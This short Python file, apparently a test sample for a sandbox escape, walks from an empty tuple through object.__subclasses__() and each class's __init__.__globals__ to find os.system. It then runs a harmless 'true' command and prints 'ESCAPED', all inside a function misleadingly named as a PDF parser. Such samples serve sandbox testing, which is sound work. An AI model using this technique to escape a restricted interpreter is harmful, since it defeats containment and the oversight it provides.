# class: python
# goal: walk from an empty tuple to os, and use it
# ruff: noqa
def parse(pdf_path):
    for kind in ().__class__.__mro__[-1].__subclasses__():
        spaces = getattr(getattr(kind, "__init__", None), "__globals__", {})
        for module in (spaces, spaces.get("os"), spaces.get("sys")):
            run = module.get("system") if isinstance(module, dict) else getattr(module, "system", None)
            if callable(run) and run("true") == 0:
                print("ESCAPED", flush=True)
                return
